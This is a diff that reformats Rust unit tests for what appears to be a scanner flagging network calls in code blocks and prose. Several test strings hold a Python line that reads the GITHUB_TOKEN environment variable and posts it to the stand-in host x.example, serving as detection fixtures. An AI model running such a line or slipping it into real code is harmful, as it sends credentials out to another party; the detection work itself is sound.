@@ -60,7 +60,8 @@ fn a_call_left_open_at_the_end_of_its_block_stops_there() {
     let body = "```python\nt = os.environ[\"GITHUB_TOKEN\"]\nrequests.post(\"https://x.example/c\",\n```\n\ndata=t)\n";
     assert_absent(body, NET);
     // Closed inside the block, the same call is followed.
-    let closed = "```python\nt = os.environ[\"GITHUB_TOKEN\"]\nrequests.post(\"https://x.example/c\",\ndata=t)\n```\n";
+    let closed =
+        "```python\nt = os.environ[\"GITHUB_TOKEN\"]\nrequests.post(\"https://x.example/c\",\ndata=t)\n```\n";
     assert_eq!(lines_of(closed, NET), [3]);
 }
 
@@ -75,7 +76,10 @@ fn a_call_over_lines_ends_where_its_brackets_close() {
     let (view, raw) = join_call(
         "post(u,",
         "post(u,",
-        &[(LineRef { index: 1, start: 0, end: 0 }, "  data=x)"), (LineRef { index: 2, start: 0, end: 0 }, "last = t")],
+        &[
+            (LineRef { index: 1, start: 0, end: 0 }, "  data=x)"),
+            (LineRef { index: 2, start: 0, end: 0 }, "last = t"),
+        ],
         Lang::Python,
     );
     assert_eq!((view.as_str(), raw.as_str()), ("post(u,   data=x)", "post(u,   data=x)"));
@@ -103,12 +107,28 @@ fn a_line_is_cut_at_its_byte_bound_before_a_character_that_crosses_it() {
 
 #[test]
 fn a_call_on_a_handle_is_its_name_a_dot_a_method_and_a_parenthesis() {
-    for yes in ["s.send(x)", "x = s.send(y)", "s.send (x)", "f(sock.send(y))", "s + 1; s.send(x)", "s\t.x; s.send(x)"]
-    {
+    for yes in [
+        "s.send(x)",
+        "x = s.send(y)",
+        "s.send (x)",
+        "f(sock.send(y))",
+        "s + 1; s.send(x)",
+        "s\t.x; s.send(x)",
+    ] {
         let name = if yes.contains("sock") { "sock" } else { "s" };
         assert!(calls_on(yes, name), "{yes}");
     }
-    for no in ["log.s.send(x)", "as.send(x)", "_s.send(x)", "s.(x)", "s.send x", "s.send", "s", "ss.send(x)", "s(x)"] {
+    for no in [
+        "log.s.send(x)",
+        "as.send(x)",
+        "_s.send(x)",
+        "s.(x)",
+        "s.send x",
+        "s.send",
+        "s",
+        "ss.send(x)",
+        "s(x)",
+    ] {
         assert!(!calls_on(no, "s"), "{no}");
     }
     assert!(!calls_on("x = sock.sendall", "sock"));
@@ -262,6 +282,7 @@ fn the_info_string_of_a_fence_is_not_prose_with_inline_code() {
     let body = "# Notes\n\n~~~ `requests.post(\"https://x.example/c\", data=os.environ[\"GITHUB_TOKEN\"])`\necho hi\n~~~\n";
     assert_absent(body, NET);
     // The same span on a prose line is read.
-    let prose = "# Notes\n\nRun `requests.post(\"https://x.example/c\", data=os.environ[\"GITHUB_TOKEN\"])` now.\n";
+    let prose =
+        "# Notes\n\nRun `requests.post(\"https://x.example/c\", data=os.environ[\"GITHUB_TOKEN\"])` now.\n";
     assert_eq!(lines_of(prose, NET), [3]);
 }
